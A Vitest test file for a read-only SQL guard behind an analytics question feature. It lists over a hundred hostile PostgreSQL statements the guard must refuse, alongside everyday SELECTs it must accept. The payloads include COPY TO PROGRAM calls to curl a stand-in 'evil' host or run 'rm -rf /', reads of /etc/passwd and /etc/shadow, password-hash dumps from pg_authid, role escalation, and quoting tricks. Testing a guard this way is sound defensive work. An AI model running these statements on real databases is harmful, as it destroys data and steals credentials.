import { beforeAll, describe, expect, it } from "vitest";
import { checkSql, loadGuard } from "../server/services/ask/guard";
import { translate } from "../server/providers/sql-writer/translate";
import { EXAMPLE_QUESTIONS } from "../server/providers/sql-writer/semantic-layer";

// The parser layer alone: every hostile statement is refused with the rule it broke; everyday
// SELECTs over the analytics views pass. (The role layer is proven separately in ask-role.int.test.ts.)

const VIEWS = new Set(["signals", "ideas", "idea_product_types", "designs", "listings", "publications", "products", "commissions", "payments", "refunds", "donations", "fundraising_goals"]);

const HOSTILE: Array<[family: string, sql: string]> = [
  // writes, also hidden in CTEs
  ["write", "insert into analytics.signals (id) values ('x')"],
  ["write", "update analytics.commissions set status = 'PAID'"],
  ["write", "delete from analytics.payments"],
  ["write", "delete from users"],
  ["write", "truncate users"],
  ["write", "drop table users"],
  ["write", "drop schema analytics cascade"],
  ["write", "alter table users add column x int"],
  ["write", "create table x as select * from analytics.payments"],
  ["write", "create view analytics.v as select 1"],
  ["write", "merge into users u using analytics.signals s on u.id = s.id when matched then delete"],
  ["write", "grant all on users to public"],
  ["write", "revoke select on analytics.signals from merchloop_ask"],
  ["write", "create role evil superuser login password 'x'"],
  ["write", "alter role merchloop_ask superuser"],
  ["write", "create function f() returns int language sql as 'select 1'"],
  ["write", "vacuum users"],
  ["write", "reindex table users"],
  ["write", "cluster users"],
  ["write", "refresh materialized view analytics.signals"],
  ["write", "comment on table users is 'x'"],
  ["write", "security label on table users is 'x'"],
  ["write", "insert into users (id) select id from analytics.signals returning *"],
  ["cte-write", "with x as (delete from users returning *) select * from x"],
  ["cte-write", "with x as (insert into analytics.signals (id) values ('x') returning id) select * from x"],
  ["cte-write", "with x as (update users set role = 'ADMIN' returning id) select count(*) from x"],
  ["cte-write", "with a as (select 1), b as (delete from payments returning 1) select * from a"],
  ["cte-write", "with recursive r as (select 1 union all select 1 from r) , d as (delete from refunds returning 1) select 1"],
  ["cte-write", "select * from (with x as (delete from users returning *) select * from x) s"],
  ["cte-write", "with x as (merge into users u using users v on u.id = v.id when matched then delete returning *) select 1"],
  // COPY, files, large objects, dblink
  ["copy", "copy users to '/tmp/users.csv'"],
  ["copy", "copy (select * from analytics.payments) to program 'curl http://evil'"],
  ["copy", "copy users from program 'id'"],
  ["copy", "COPY analytics.signals TO STDOUT"],
  ["file", "select pg_read_file('/etc/passwd')"],
  ["file", "select pg_read_binary_file('/etc/passwd')"],
  ["file", "select * from pg_ls_dir('.')"],
  ["file", "select pg_stat_file('postgresql.conf')"],
  ["file", "select lo_import('/etc/passwd')"],
  ["file", "select lo_export(1234, '/tmp/x')"],
  ["file", "select lo_get(1234)"],
  ["file", "select pg_catalog.pg_read_file('/etc/passwd')"],
  ["file", "select \"pg_read_file\"('/etc/passwd')"],
  ["file", "select count(*) from analytics.signals where pg_read_file('/etc/passwd') is not null"],
  ["dblink", "select * from dblink('host=evil', 'select 1') as t(x int)"],
  ["dblink", "select dblink_exec('host=127.0.0.1', 'drop table users')"],
  ["dblink", "select dblink_connect('x', 'dbname=postgres')"],
  // config, sleeping, killing
  ["config", "select set_config('role', 'postgres', true)"],
  ["config", "select set_config('statement_timeout', '0', false)"],
  ["config", "select current_setting('data_directory')"],
  ["config", "set role postgres"],
  ["config", "set statement_timeout = 0"],
  ["config", "reset role"],
  ["config", "set session authorization postgres"],
  ["config", "show data_directory"],
  ["config", "select * from analytics.signals where set_config('transaction_read_only', 'off', true) = 'off'"],
  ["sleep", "select pg_sleep(60)"],
  ["sleep", "select pg_sleep_for('1 hour')"],
  ["sleep", "select count(*) from analytics.signals, lateral (select pg_sleep(1)) s"],
  ["sleep", "select pg_catalog.pg_sleep(10)"],
  ["kill", "select pg_terminate_backend(pid) from pg_stat_activity"],
  ["kill", "select pg_cancel_backend(1)"],
  ["kill", "select pg_reload_conf()"],
  ["kill", "select pg_rotate_logfile()"],
  ["kill", "select txid_current()"],
  ["kill", "select nextval('x')"],
  ["kill", "select pg_advisory_lock(1)"],
  ["kill", "select pg_notify('c', 'x')"],
  ["kill", "select query_to_xml('select * from users', true, false, '')"],
  // catalog and other schemas
  ["catalog", "select * from pg_authid"],
  ["catalog", "select rolpassword from pg_catalog.pg_authid"],
  ["catalog", "select * from pg_shadow"],
  ["catalog", "select * from pg_roles"],
  ["catalog", "select * from pg_user"],
  ["catalog", "select * from pg_settings"],
  ["catalog", "select * from pg_stat_activity"],
  ["catalog", "select * from pg_class"],
  ["catalog", "select * from information_schema.tables"],
  ["catalog", "select * from information_schema.columns"],
  ["catalog", "select * from users"],
  ["catalog", "select password_hash from public.users"],
  ["catalog", "select * from public.commissions"],
  ["catalog", "select email from commissions c join public.commissions p using (id)"],
  ["catalog", "select * from stripe_events"],
  ["catalog", "select * from ask_exec.run('select 1', 1)"],
  ["catalog", "select * from merchloop.analytics.signals"],
  ["catalog", "select * from analytics.signals s join users u on u.id = s.id"],
  ["catalog", "select (select count(*) from users) from analytics.signals"],
  ["catalog", "select * from analytics.signals where exists (select 1 from pg_authid)"],
  ["catalog", "select * from analytics.signals union select * from users"],
  ["catalog", "with pg_roles as (select * from pg_roles) select * from pg_roles"],
  ["catalog", "with users as (select * from users) select * from users"],
  ["catalog", "select 'pg_authid'::regclass"],
  ["catalog", "select 1::regproc"],
  ["catalog", "select pg_catalog.pg_get_userbyid(10)"],
  ["catalog", "select current_user"],
  ["catalog", "select session_user"],
  ["catalog", "select version()"],
  ["catalog", "select inet_server_addr()"],
  ["catalog", "select * from pg_temp.x"],
  ["catalog", "table users"],
  ["catalog", "select * from only public.users"],
  // comments, quoting, unicode escapes
  ["quoting", 'select * from "users"'],
  ["quoting", 'select * from "public"."users"'],
  ["quoting", 'select * from U&"\\0075sers"'],
  ["quoting", 'select * from U&"\\0070g_authid"'],
  ["quoting", "select * from U&\"!0070g_authid\" UESCAPE '!'"],
  ["quoting", 'select * from "pg_catalog"."pg_authid"'],
  ["quoting", 'select * from "Analytics"."signals", users'],
  ["quoting", "select * from analytics.signals; -- harmless\n delete from users"],
  ["quoting", "select * from analytics.signals /* ; */ ; delete from users"],
  ["quoting", "select /* comment */ * from /* more */ users"],
  ["quoting", "select * from analytics.signals --\n union select * from users"],
  ["quoting", "select $$x$$ from users"],
  ["quoting", "select * from an/**/alytics.signals"],
  ["quoting", "select * from analytics . users"],
  ["quoting", "select E'\\x27' from users"],
  // multiple statements
  ["multi", "select 1; select 2"],
  ["multi", "select * from analytics.signals; drop table users"],
  ["multi", "select 1;delete from users;"],
  ["multi", "begin; delete from users; commit"],
  ["multi", ";;select 1;;select 1"],
  ["multi", "select 1; select pg_sleep(100)"],
  // EXPLAIN, PREPARE, DO, CALL, LISTEN, LOCK
  ["explain", "explain analyze delete from users"],
  ["explain", "explain analyze insert into users (id) values ('x')"],
  ["explain", "explain select * from analytics.signals"],
  ["explain", "explain (analyze, format json) update users set role = 'ADMIN'"],
  ["other", "prepare p as delete from users"],
  ["other", "execute p"],
  ["other", "do $$ begin perform pg_sleep(1); end $$"],
  ["other", "call some_procedure()"],
  ["other", "listen x"],
  ["other", "lock table users"],
  ["other", "declare c cursor for select * from users"],
  ["other", "checkpoint"],
  ["other", "load 'evil.so'"],
  ["other", "discard all"],
  ["other", "select * from analytics.signals tablesample system (10)"],
  ["other", "select * from xmltable('/a' passing '<a/>' columns x int path '.')"],
  ["other", "select xmlelement(name x, 1)"],
  ["other", "select $1"],
  // locking clauses and SELECT INTO
  ["lock", "select * from analytics.signals for update"],
  ["lock", "select * from analytics.payments for share"],
  ["lock", "select * from analytics.payments for no key update"],
  ["lock", "select * from analytics.payments for key share skip locked"],
  ["lock", "select * from (select * from analytics.signals for update) s"],
  ["lock", "with x as (select * from analytics.signals for update nowait) select * from x"],
  ["into", "select * into evil from analytics.signals"],
  ["into", "select * into temp evil from analytics.signals"],
  ["into", "select id into unlogged evil from analytics.payments"],
  ["into", "with x as (select 1) select * into t from x"],
  // table functions and odd types
  ["function", "select * from generate_series(1, 10) g, pg_ls_dir('.') d"],
  ["function", "select * from lower('x')"],
  ["function", "select * from rows from (pg_sleep(1))"],
  ["function", "select * from json_to_record('{}') as x(a int)"],
  ["function", "select 1::xml"],
  ["function", "select x::pg_catalog.regclass from analytics.signals"],
  ["function", "select public.evil()"],
  ["function", "select analytics.evil()"],
  ["function", "select 1 operator(public.+) 1"],
  ["function", "select count(*) filter (where pg_sleep(1) is null) from analytics.signals"],
  ["function", "select row_number() over (order by pg_sleep(1)) from analytics.signals"],
  ["function", "select * from analytics.signals order by pg_backend_pid()"],
  ["function", "select * from analytics.signals group by cube(pg_sleep(1))"],
  ["function", "select array(select pg_sleep(1))"],
  ["function", "select * from analytics.signals where id = any(array[pg_sleep(1)::text])"],
  ["syntax", "selec * from analytics.signals"],
  ["syntax", ""],
  ["syntax", "   "],
  ["syntax", "-- only a comment"],
  ["catalog", "select * from analytics.signals where id in (select id from users)"],
  ["syntax", `select '${"x".repeat(10_001)}'`],
];

const ISSUE_SAMPLES = [
  "COPY (SELECT 1) TO PROGRAM 'rm -rf /'",
  "SELECT pg_read_file('/etc/passwd')",
  "SELECT rolname, rolpassword FROM pg_authid",
  "SELECT lo_import('/etc/shadow')",
  "SELECT * FROM dblink('dbname=postgres', 'select 1') AS t(a int)",
  "SELECT set_config('statement_timeout', '0', false)",
  "SELECT pg_sleep(30)",
  "SELECT pg_terminate_backend(1)",
  "EXPLAIN ANALYZE DELETE FROM users",
  "SELECT * FROM analytics.payments FOR UPDATE",
  "SELECT * INTO stolen FROM analytics.payments",
];

beforeAll(loadGuard);

describe("guard: hostile statements", () => {
  it("has a corpus of at least 100 statements covering every family", () => {
    expect(HOSTILE.length + ISSUE_SAMPLES.length).toBeGreaterThanOrEqual(100);
    expect(new Set(HOSTILE.map(([f]) => f))).toEqual(new Set(["write", "cte-write", "copy", "file", "dblink", "config", "sleep", "kill", "catalog", "quoting", "multi", "explain", "other", "lock", "into", "function", "syntax"]));
  });

  it.each([...HOSTILE.map(([, s]) => s), ...ISSUE_SAMPLES].map((s) => [s.slice(0, 90), s]))("refuses %s", (_label, sql) => {
    const v = checkSql(sql, VIEWS);
    expect(v.ok).toBe(false);
  });
});

describe("guard: reasons name the rule", () => {
  const reason = (sql: string) => {
    const v = checkSql(sql, VIEWS);
    if (v.ok) throw new Error(`accepted: ${sql}`);
    return v;
  };
  it("only SELECT", () => {
    expect(reason("delete from users")).toMatchObject({ rule: "only-select", message: expect.stringContaining("Only SELECT") });
    expect(reason("with x as (delete from users returning *) select * from x")).toMatchObject({ rule: "only-select", message: expect.stringContaining("DELETE") });
    expect(reason("explain analyze delete from users")).toMatchObject({ rule: "only-select", message: expect.stringContaining("EXPLAIN") });
  });
  it("names the table that is not available", () => {
    expect(reason("select * from users").message).toBe("Table `users` is not available.");
    expect(reason('select * from U&"\\0070g_authid"').message).toContain("`pg_authid`");
    expect(reason("select * from public.users").message).toContain("only the analytics views");
  });
  it("names the function that is not allowed", () => {
    expect(reason("select pg_sleep(5)")).toEqual({ ok: false, rule: "function", message: "Function `pg_sleep` is not allowed." });
    expect(reason("select pg_catalog.pg_read_file('/etc/passwd')").message).toBe("Function `pg_catalog.pg_read_file` is not allowed.");
  });
  it("one statement, locking, SELECT INTO", () => {
    expect(reason("select 1; select 2")).toMatchObject({ rule: "one-statement" });
    expect(reason("select * from analytics.signals for update")).toMatchObject({ rule: "no-locking" });
    expect(reason("select * into t from analytics.signals")).toMatchObject({ rule: "no-select-into" });
  });
});

describe("guard: everyday questions pass", () => {
  const OK = [
    "select count(*) from analytics.commissions",
    "SELECT tier, count(*) AS n FROM commissions GROUP BY 1 ORDER BY 2 DESC;",
    "with w as (select date_trunc('week', paid_at)::date as week, sum(net_cents) as c from analytics.payments where paid_at is not null group by 1) select week, round(c / 100.0, 2) from w order by 1",
    "select community, rank() over (order by count(*) desc) from analytics.signals group by community",
    "select extract(dow from created_at) as dow, avg(amount_cents) from analytics.donations group by 1",
    "select d::date, coalesce(n, 0) from generate_series(current_date - 6, current_date, interval '1 day') d left join (select created_at::date as day, count(*) n from analytics.ideas group by 1) x on x.day = d::date",
    "select * from analytics.payments p join analytics.commissions c on c.id = p.commission_id where c.tier = 'gold' limit 10",
    "select case when amount_cents > 5000 then 'big' else 'small' end as size, count(*) from analytics.commissions group by 1",
    "select count(*) filter (where status = 'REFUNDED') * 100.0 / nullif(count(*), 0) from analytics.commissions",
    "with recursive n(i) as (select 1 union all select i + 1 from n where i < 3) select * from n",
    "select lower(community) from analytics.signals where title ilike '%cat%' and created_at > now() - interval '7 days'",
  ];
  it.each(OK.map((s) => [s.slice(0, 80), s]))("accepts %s", (_l, sql) => {
    const v = checkSql(sql, VIEWS);
    expect(v).toMatchObject({ ok: true });
  });

  it("returns the statement without its trailing semicolon", () => {
    expect(checkSql("  select 1 from analytics.signals ;  ", VIEWS)).toEqual({ ok: true, sql: "select 1 from analytics.signals" });
  });

  it("accepts every query the offline translator writes for its example questions", () => {
    for (const q of EXAMPLE_QUESTIONS) {
      const d = translate(q);
      if (d.kind !== "sql") throw new Error(`cannot: ${q}`);
      expect(checkSql(d.sql, VIEWS), q).toMatchObject({ ok: true });
    }
  });
});
